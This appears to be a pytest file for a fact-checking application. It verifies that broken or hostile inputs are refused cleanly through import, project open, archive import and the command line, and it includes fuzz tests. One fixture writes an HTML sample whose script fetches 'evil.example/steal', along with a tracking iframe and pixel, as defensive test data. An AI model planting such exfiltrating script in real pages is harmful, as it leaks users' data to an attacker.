"""Every kind of hostile or broken input, through every entry point: a clear message, nothing changed.

Entry points: import into a project (services), open as a project, import as a project
archive, and the `factcheck` command line. The corpus is tests/data/bad/ (files made by
tests/data/make_fixtures.py and tests/data/bad/archives/make_bad_archives.py) plus a few
kinds made here because they are large or need a database.
"""

from __future__ import annotations

import hashlib
import sqlite3
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from factcheck_app import cli
from factcheck_app.domain.errors import FactcheckError, ImportRefused, ProjectError
from factcheck_app.importers.registry import draft_from_bytes
from factcheck_app.services.archive import import_archive
from factcheck_app.services.articles import import_article_edit
from factcheck_app.services.project import Project

BAD = Path(__file__).resolve().parents[1] / "data" / "bad"
BAD_FILES = sorted(p for p in BAD.iterdir() if p.is_file())
BAD_ARCHIVES = sorted(p for p in (BAD / "archives").glob("*.factcheck-archive"))


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Kinds too big to commit or that need a database: huge file, another app's SQLite, a 'project' that is text."""
    folder = tmp_path_factory.mktemp("generated-bad")
    huge = folder / "huge.txt"
    with huge.open("wb") as handle:
        handle.truncate(60 * 1024 * 1024)  # sparse: 60 MB of NUL bytes, over the 50 MB limit
    other = folder / "browser-history.sqlite"
    raw = sqlite3.connect(other)
    raw.execute("CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT)")
    raw.commit()
    raw.close()
    text_project = folder / "notes.factcheck"
    text_project.write_text("This is a text file with a project's name.\n", encoding="utf-8")
    html = folder / "hostile.html"
    html.write_text(
        "<html><head><script>fetch('https://evil.example/steal')</script></head><body>"
        "<iframe src='https://evil.example/frame'></iframe><img src='https://evil.example/pixel.gif'>"
        "<nav>Home | News</nav></body></html>",
        encoding="utf-8",
    )
    return [huge, other, text_project, html]


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _all_bad(generated: list[Path]) -> list[Path]:
    return [*BAD_FILES, *generated]


def test_corpus_has_at_least_thirty_kinds(generated: list[Path]) -> None:
    """The corpus covers the issue's list: ≥ 30 kinds of broken or hostile input."""
    assert len(BAD_FILES) + len(generated) + len(BAD_ARCHIVES) >= 30


def test_every_bad_file_is_refused_on_import_and_the_project_is_unchanged(project, generated) -> None:  # type: ignore[no-untyped-def]
    """Import: one clear message naming the file; the project file is byte-identical."""
    handled = 0
    for bad in _all_bad(generated):
        if bad.suffix == ".factcheck":
            continue  # a 'project' made of text imports fine as an article: it *is* text
        before = _digest(project.location.path)
        with pytest.raises(ImportRefused) as caught:
            project.apply(import_article_edit(bad))
        assert bad.name in str(caught.value), bad.name
        assert "\n" not in str(caught.value).strip()
        assert _digest(project.location.path) == before
        handled += 1
    assert project.articles() == []
    assert handled >= len(BAD_FILES)


def test_every_bad_file_is_refused_when_opened_as_a_project(generated) -> None:  # type: ignore[no-untyped-def]
    """Open: refused with a message, and the file is left exactly as it was."""
    for bad in _all_bad(generated):
        before = _digest(bad)
        with pytest.raises(ProjectError):
            Project.open(bad)
        assert _digest(bad) == before, bad.name


def test_every_bad_input_is_refused_as_an_archive(tmp_path: Path, generated) -> None:  # type: ignore[no-untyped-def]
    """Archive import: every bad archive and every bad file is refused; no project is created."""
    for number, bad in enumerate([*BAD_ARCHIVES, *_all_bad(generated)]):
        target = tmp_path / f"new-{number}.factcheck"
        with pytest.raises(FactcheckError):
            import_archive(bad, target)
        assert not target.exists(), bad.name
        assert not list(tmp_path.glob(f"new-{number}.factcheck*")), bad.name


def test_every_bad_file_gives_one_line_from_the_cli(tmp_path: Path, capsys, generated) -> None:  # type: ignore[no-untyped-def]
    """CLI import and open: exit 1 and exactly one line on stderr, never a traceback."""
    project = tmp_path / "cli.factcheck"
    assert cli.main(["new", str(project)]) == 0
    capsys.readouterr()
    for bad in _all_bad(generated):
        for args in (["import", str(project), str(bad)], ["claims", str(bad), "--json"]):
            if args[0] == "import" and bad.suffix == ".factcheck":
                continue
            code = cli.main(args)
            err = capsys.readouterr().err
            assert code == 1, (bad.name, args[0])
            assert len(err.strip().splitlines()) == 1 and err.startswith("factcheck: "), (bad.name, err)
            assert "Traceback" not in err


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=4096), st.sampled_from(["a.txt", "b.docx", "c.pdf", "d.html", "e.md", "f"]))
def test_fuzzed_bytes_import_or_are_refused_never_crash(data: bytes, name: str) -> None:
    """Random bytes under any name: a draft with text, or ImportRefused — no other exception."""
    try:
        draft = draft_from_bytes(data, name)
    except ImportRefused as refused:
        assert name in str(refused)
    else:
        assert draft.text.strip()


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from([b"PK\x03\x04", b"%PDF-1.7\n", b"<!DOCTYPE html><html>", b"\xd0\xcf\x11\xe0"]),
    st.binary(max_size=2048),
)
def test_fuzzed_files_with_real_signatures_are_handled(signature: bytes, tail: bytes) -> None:
    """Garbage behind a real ZIP/PDF/HTML/OLE signature is refused or imported, never a crash."""
    try:
        draft = draft_from_bytes(signature + tail, "fuzzed")
    except ImportRefused as refused:
        assert "fuzzed" in str(refused)
    else:
        assert draft.text.strip()
